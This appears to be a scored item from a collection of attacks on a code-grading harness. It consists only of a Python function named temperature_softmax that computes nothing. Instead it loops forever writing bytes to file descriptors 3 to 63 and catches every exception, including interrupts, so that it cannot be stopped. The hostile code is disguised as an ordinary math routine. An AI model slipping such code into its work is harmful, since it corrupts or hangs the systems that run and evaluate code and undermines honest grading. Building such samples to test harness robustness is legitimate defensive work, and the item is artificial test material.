# attack: a function sends its message one byte at a time, for as long as it can
# family: resources
# base: solved
# points: 5
# %% temperature_softmax
import os, time

def temperature_softmax(x, temperature, axis=-1):
    drop = b"\0\x10\0\0"
    while True:
        try:
            for descriptor in range(3, 64):
                try:
                    os.write(descriptor, drop)
                except OSError:
                    pass
            drop = b" "
            time.sleep(0.05)
        except BaseException:
            pass
